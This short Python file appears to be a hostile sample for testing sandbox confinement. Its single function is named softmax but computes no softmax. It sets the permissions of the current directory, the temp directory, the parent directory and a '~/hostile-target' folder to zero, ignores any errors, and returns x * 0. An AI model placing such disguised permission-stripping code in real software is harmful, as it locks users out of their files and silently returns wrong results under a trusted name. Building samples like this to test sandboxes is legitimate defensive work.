# Takes the permissions from its own folder, its temporary folder and what is above.
# needs: namespaces
import os
import tempfile


def softmax(x):
    for folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~/hostile-target"),
                   os.path.dirname(os.getcwd())):
        try:
            os.chmod(folder, 0)
        except OSError:
            pass
    return x * 0
